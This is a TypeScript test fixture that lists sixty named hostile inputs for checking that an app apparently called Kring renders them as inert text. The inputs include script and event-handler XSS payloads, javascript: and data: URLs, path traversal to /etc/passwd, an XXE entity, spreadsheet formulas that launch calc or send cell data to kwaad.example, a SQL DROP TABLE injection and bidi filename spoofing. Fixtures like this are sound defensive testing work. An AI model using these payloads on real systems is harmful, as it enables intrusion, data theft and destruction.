// Sixty texts that have broken or taken over programs of this sort. In Kring each is text, and nothing else.

/** What a script of any of them would call; a test fails when anything ever does. */
export const ALARM = 'kringAlarm';
const RUN = `${ALARM}()`;
const upTo = (last: number): string =>
  Array.from({ length: last + 1 }, (_, code) => String.fromCharCode(code)).join('');

/** A name for the list of a test, and the text itself. */
export const HOSTILE_TEXTS: readonly (readonly [name: string, text: string])[] = [
  ['a script', `<script>${RUN}</script>`],
  ['a script after an end', `</textarea></title></style><script>${RUN}</script>`],
  ['a script in capitals', `<ScRiPt>${RUN}</sCrIpT>`],
  ['a script that is cut', `<script/src=data:,${RUN}//`],
  ['a picture that fails', `<img src=x onerror=${RUN}>`],
  ['a picture without quotes', `"><img src=x onerror="${RUN}"`],
  ['a picture with a break', `<img src=x\nonerror=${RUN}>`],
  ['a drawing that loads', `<svg onload=${RUN}>`],
  ['a drawing with a script', `<svg><script>${RUN}</script></svg>`],
  ['a drawing that moves', `<svg><animate onbegin=${RUN} attributeName=x>`],
  ['a field that asks for the focus', `<input autofocus onfocus=${RUN}>`],
  ['details that open', `<details open ontoggle=${RUN}>x</details>`],
  ['a frame with a page', `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`],
  ['a frame with a script', `<iframe src="javascript:parent.${RUN}"></iframe>`],
  ['a form that leaves', '<form action="https://kwaad.example"><button>Verder</button></form>'],
  ['a page that goes elsewhere', '<meta http-equiv="refresh" content="0;url=https://kwaad.example">'],
  ['a base', '<base href="https://kwaad.example/">'],
  ['a style from elsewhere', '<style>@import "https://kwaad.example/a.css";*{display:none}</style>'],
  ['an attribute that ends', `' onmouseover='${RUN}' x='`],
  ['a comment that ends', `--><script>${RUN}</script><!--`],
  ['mathematics', `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`],
  ['a template', `<template><img src=x onerror=${RUN}></template>`],
  ['an address that runs', `javascript:${RUN}`],
  ['an address that hides', `java\tscript:${RUN}`],
  ['an address with a sign before it', `\u0001javascript:${RUN}`],
  ['an address with data', `data:text/html,<script>${RUN}</script>`],
  ['an address of old programs', `vbscript:${RUN}`],
  ['a link of Markdown that runs', `[klik hier](javascript:${RUN})`],
  ['a picture of Markdown', `![x](x "onerror=${RUN}")`],
  ['a link of Markdown with data', `<data:text/html;base64,PHNjcmlwdD4=>`],
  ['a file of this machine', 'file:///etc/passwd'],
  ['a folder of another machine', '\\\\kwaad.example\\deel\\x.scf'],
  ['a way out of the folder', '../../../../etc/passwd'],
  ['a way out, written otherwise', '..%2f..%2f%00.docx'],
  ['a name that Windows keeps', 'CON.kring'],
  ['a formula that starts a program', "=cmd|'/C calc'!A0"],
  ['a formula with a link', '=HYPERLINK("https://kwaad.example?"&A1,"klik")'],
  ['a formula with a plus', "+1+cmd|' /C calc'!A0"],
  ['a formula with a minus', "-2+3+cmd|' /C calc'!A0"],
  ['a formula with an at', "@SUM(1+9)*cmd|' /C calc'!A0"],
  ['a formula after a tab', '\t=1+1'],
  ['a field of Word', '{ DDEAUTO c:\\\\windows\\\\system32\\\\calc.exe "" }'],
  ['an entity of XML', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'],
  ['the end of a data section', ']]><x/>'],
  ['entities of HTML', `&lt;script&gt;${RUN}&lt;/script&gt; &#60;b&#62; &amp;amp;`],
  ['a template of a program', `{{constructor.constructor("${RUN}")()}}\${${RUN}}#{7*7}<%= 7*7 %>`],
  ['braces of messages', "{count, plural, one {'} other {}} {name} '{'"],
  ['a prototype', '__proto__'],
  ['a constructor', 'constructor'],
  ['a question to a database', "'; DROP TABLE notes;--"],
  ['codes of a terminal', '\u001b[2J\u001b]0;gekaapt\u0007'],
  ['text that turns around', 'verslag\u202Excod.exe \u2066x\u2069'],
  ['signs that nobody sees', 'ad\u200Bres\u200D\u2060\uFEFF\u00AD'],
  ['control characters', `voor${upTo(31)}\u007F\u0085na`],
  ['half a sign', 'voor\uD83Dna\uDE00'],
  ['the ends of the plane', 'voor\uFFFE\uFFFF na'],
  ['lines of their own kind', 'een\u2028twee\u2029drie\u000Bvier'],
  ['accents without end', `Z${'\u0310\u0327\u0334'.repeat(40)}algo`],
  ['a family and flags', '👩‍👩‍👧‍👦🏳️‍🌈🇳🇱👍🏿 مرحبا שלום'],
  ['a word without end', 'a'.repeat(6_000)],
];

/** What a program that shows text leaves of it: signs without a shape may go, letters may not. */
export const lettersOf = (text: string): string => text.replace(/[^\p{L}\p{N}]+/gu, '');
